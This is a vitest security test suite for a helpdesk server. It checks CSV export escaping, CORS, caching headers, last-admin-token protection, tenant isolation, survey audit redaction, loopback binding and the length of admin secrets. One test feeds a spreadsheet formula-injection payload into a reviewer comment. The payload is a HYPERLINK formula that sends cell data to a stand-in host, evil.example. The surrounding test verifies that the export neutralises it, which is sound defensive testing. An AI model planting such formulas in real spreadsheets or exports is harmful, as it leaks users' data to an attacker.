import { afterEach, describe, expect, it } from 'vitest';
import { run } from '../../src/cli/main.ts';
import { createManualClock } from '../../src/core/util/clock.ts';
import { createLowdbStore } from '../../src/store/lowdb/index.ts';
import { createSwitchboard } from '../../src/switchboard/create-switchboard.ts';
import { startServer } from '../../src/switchboard/server.ts';
import { silentLogger } from '../../src/telemetry/logger.ts';
import { generateTickets } from '../helpers/qa-tickets.ts';
import { api, startTestServer, tempDir } from '../helpers/server.ts';

const allPass = {
  greeting: 'pass',
  'problem-confirmed': 'pass',
  'commitment-with-time': 'pass',
  'correct-category': 'pass',
};

describe('smaller edges an attacker or a careless admin would find', () => {
  const cleanups: (() => Promise<void> | void)[] = [];
  afterEach(async () => {
    while (cleanups.length) await cleanups.pop()!();
  });

  it('exports, CORS, caching, the last admin, foreign tickets and survey answers on one server', async () => {
    const tmp = await tempDir();
    cleanups.push(tmp.remove);
    const clock = createManualClock('2026-10-05T02:00:00Z');
    const seed = createLowdbStore({ dir: tmp.dir, clock });
    await seed.open();
    for (const t of generateTickets(60, { seed: 3, start: '2026-10-01T00:00:00Z', days: 1 })) await seed.insert(t);
    await seed.close();
    let firstAdmin = '';
    const s = await startTestServer({
      dataDir: tmp.dir,
      clock,
      qaTickMs: 0,
      // no admin secret from the environment: the generated first admin is the only admin
      security: { adminToken: undefined, onFirstAdminToken: (token) => (firstAdmin = token) },
      server: { corsOrigin: ['https://desk.example'] },
    });
    cleanups.push(() => s.close());
    const as = (method: string, path: string, body?: unknown, token = firstAdmin) =>
      api(s.url, method, path, body, token);

    // one CSV writer: a formula in a reviewer's comment stays text, the file starts with a BOM
    await as('POST', '/api/qa/sample', { from: '2026-10-01', to: '2026-10-01' });
    const [item] = (await as('GET', '/api/qa/queue')).body.items as { ticketId: string }[];
    const comment = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    expect((await as('POST', `/api/qa/reviews/${item!.ticketId}`, { results: allPass, comment })).status).toBe(201);
    const raw = await fetch(`${s.url}/api/qa/export?format=csv&status=reviewed`, {
      headers: { authorization: `Bearer ${firstAdmin}` },
    });
    const bytes = Buffer.from(await raw.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const row = bytes
      .toString('utf8')
      .split('\r\n')
      .find((l) => l.includes(item!.ticketId))!;
    expect(row.endsWith(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`)).toBe(true);

    // CORS preflight names every method the API uses
    const preflight = await fetch(`${s.url}/api/tickets/x`, {
      method: 'OPTIONS',
      headers: { origin: 'https://desk.example', 'access-control-request-method': 'PATCH' },
    });
    const methods = (preflight.headers.get('access-control-allow-methods') ?? '').split(/,\s*/);
    for (const m of ['GET', 'POST', 'PUT', 'PATCH', 'DELETE']) expect(methods).toContain(m);

    // API answers, errors included, are never cached
    expect((await as('GET', '/api/tickets')).headers.get('cache-control')).toBe('no-store');
    expect((await as('GET', '/api/tickets/t_none')).headers.get('cache-control')).toBe('no-store');

    // the last admin token stays
    const adminId = ((await as('GET', '/api/tokens')).body.items as { id: string; role: string }[]).find(
      (t) => t.role === 'admin',
    )!.id;
    const last = await as('DELETE', `/api/tokens/${adminId}`);
    expect(last.status).toBe(409);
    expect(last.body.error.code).toBe('SWB_TOKEN_LAST_ADMIN');
    const second = (await as('POST', '/api/tokens', { name: 'ops-admin', role: 'admin' })).body;
    expect((await as('DELETE', `/api/tokens/${adminId}`)).status).toBe(200);
    expect((await as('DELETE', `/api/tokens/${second.id}`, undefined, second.token)).body.error.code).toBe(
      'SWB_TOKEN_LAST_ADMIN',
    );
    firstAdmin = second.token;

    // an agent learns nothing of tickets outside its groups: the same 404 as for no ticket
    const agent = (await as('POST', '/api/tokens', { name: 'vip-only', role: 'agent', groups: ['vip-desk'] })).body
      .token;
    const foreign = generateTickets(1, { seed: 3, start: '2026-10-01T00:00:00Z', days: 1 })[0]!.id;
    const theirs = await as('GET', `/api/tickets/${foreign}`, undefined, agent);
    const missing = await as('GET', '/api/tickets/t_999999', undefined, agent);
    expect([theirs.status, missing.status]).toEqual([404, 404]);
    expect(theirs.body.error.code).toBe(missing.body.error.code);
    expect(theirs.body.error.message.replace(foreign, 'ID')).toBe(missing.body.error.message.replace('t_999999', 'ID'));
    const writeTheirs = await as('POST', `/api/tickets/${foreign}/replies`, { body: 'hi' }, agent);
    expect([writeTheirs.status, writeTheirs.body.error.code]).toEqual([404, 'SWB_TICKET_NOT_FOUND']);

    // a survey answer is audited as the customer's, without the link's secret
    const link = (await as('POST', `/api/tickets/${foreign}/survey`)).body.path as string;
    expect((await api(s.url, 'POST', link, { score: 1, comment: 'slow' }, null)).status).toBe(200);
    const audit = (await as('GET', `/api/audit?ticket=${foreign}`)).body.items as {
      operation: string;
      actor: { role: string };
      path: string;
      details: { score: number };
    }[];
    const answer = audit.find((e) => e.operation === 'answerSurvey')!;
    expect(answer).toMatchObject({ actor: { role: 'customer' }, details: { score: 1 } });
    expect(JSON.stringify(audit)).not.toContain(link.split('/').at(-1));
  });

  it('serve listens on loopback unless told otherwise, and admin secrets are long', async () => {
    const tmp = await tempDir();
    const refused = await tempDir();
    cleanups.push(tmp.remove, refused.remove);
    await expect(
      createSwitchboard({
        dataDir: refused.dir,
        logger: silentLogger,
        security: { adminToken: 'swb_short-secret', env: {} },
      }),
    ).rejects.toMatchObject({ code: 'SWB_AUTH_WEAK_SECRET' });

    const sb = await createSwitchboard({
      dataDir: tmp.dir,
      logger: silentLogger,
      security: { adminToken: 'swb_a-secret-long-enough-to-pass', env: {} },
    });
    const server = await startServer(sb, { port: 0, logger: silentLogger });
    cleanups.push(() => server.close());
    expect((server.http.address() as { address: string }).address).toBe('127.0.0.1');

    const out: string[] = [];
    expect(await run(['help'], { out: (l) => out.push(l), err: () => undefined })).toBe(0);
    expect(out.join('\n')).toMatch(/127\.0\.0\.1[\s\S]*--host 0\.0\.0\.0/);
  });
});
